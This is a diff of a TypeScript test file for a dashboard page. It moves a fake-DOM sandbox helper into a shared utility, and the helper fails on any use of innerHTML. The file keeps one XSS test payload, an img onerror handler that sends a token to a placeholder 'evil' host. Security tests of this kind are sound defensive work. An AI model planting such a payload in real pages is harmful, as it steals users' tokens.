@@ -3,95 +3,9 @@
 import assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
 import { test } from 'node:test';
-import vm from 'node:vm';
 import { DASHBOARD_JS } from './client.js';
 import { DASHBOARD_CSP, DASHBOARD_CSS, DASHBOARD_HTML } from './page.js';
-
-class FakeText {
-  constructor(readonly data: string) {}
-  get textContent(): string {
-    return this.data;
-  }
-}
-
-class FakeElement {
-  readonly attrs = new Map<string, string>();
-  children: (FakeElement | FakeText)[] = [];
-  disabled = false;
-  constructor(readonly tagName: string) {}
-  setAttribute(k: string, v: string): void {
-    this.attrs.set(k, String(v));
-  }
-  getAttribute(k: string): string | null {
-    return this.attrs.get(k) ?? null;
-  }
-  set className(v: string) {
-    this.attrs.set('class', v);
-  }
-  get className(): string {
-    return this.attrs.get('class') ?? '';
-  }
-  appendChild(c: unknown): unknown {
-    if (!(c instanceof FakeElement || c instanceof FakeText)) throw new TypeError('appendChild: not a node');
-    this.children.push(c);
-    return c;
-  }
-  replaceChildren(...cs: unknown[]): void {
-    this.children = [];
-    for (const c of cs) this.appendChild(c);
-  }
-  set textContent(v: string) {
-    this.children = [new FakeText(String(v))];
-  }
-  get textContent(): string {
-    return this.children.map((c) => c.textContent).join('');
-  }
-  set innerHTML(_v: string) {
-    throw new Error('innerHTML used');
-  }
-  set outerHTML(_v: string) {
-    throw new Error('outerHTML used');
-  }
-  insertAdjacentHTML(): void {
-    throw new Error('insertAdjacentHTML used');
-  }
-  *walk(): Generator<FakeElement> {
-    yield this;
-    for (const c of this.children) if (c instanceof FakeElement) yield* c.walk();
-  }
-}
-
-/** Runs the page's script with `?token=<token>`; returns the elements by id and a function that delivers a state. */
-function runPage(token: string) {
-  const ids = [...DASHBOARD_HTML.matchAll(/ id="([^"]+)"/g)].map((m) => m[1]!);
-  const byId = new Map(ids.map((id) => [id, new FakeElement('div')]));
-  const warnings: string[] = [];
-  let source: { onmessage?: (e: { data: string }) => void; onopen?: () => void } | undefined;
-  const ctx: Record<string, unknown> = {
-    location: { search: `?token=${encodeURIComponent(token)}` },
-    URLSearchParams,
-    atob,
-    console: { warn: (m: string) => warnings.push(m), log() {}, error() {} },
-    document: {
-      createElement: (t: string) => new FakeElement(t),
-      createTextNode: (s: string) => new FakeText(s),
-      getElementById: (id: string) => byId.get(id) ?? null,
-      addEventListener() {},
-    },
-    EventSource: class {
-      constructor(readonly url: string) {
-        source = this as never;
-      }
-    },
-    fetch: () => Promise.reject(new Error('no fetch in this test')),
-  };
-  ctx.window = ctx;
-  vm.runInNewContext(DASHBOARD_JS, ctx);
-  assert.ok(source, 'the script opened the event stream');
-  const send = (state: unknown) => source!.onmessage!({ data: JSON.stringify(state) });
-  const all = () => [...byId.values()].flatMap((e) => [...e.walk()]);
-  return { byId, send, all, warnings, ctx };
-}
+import { runPage } from './page.test-util.js';
 
 const XSS = '<img src=x onerror="fetch(\'//evil/\'+token)">';
 
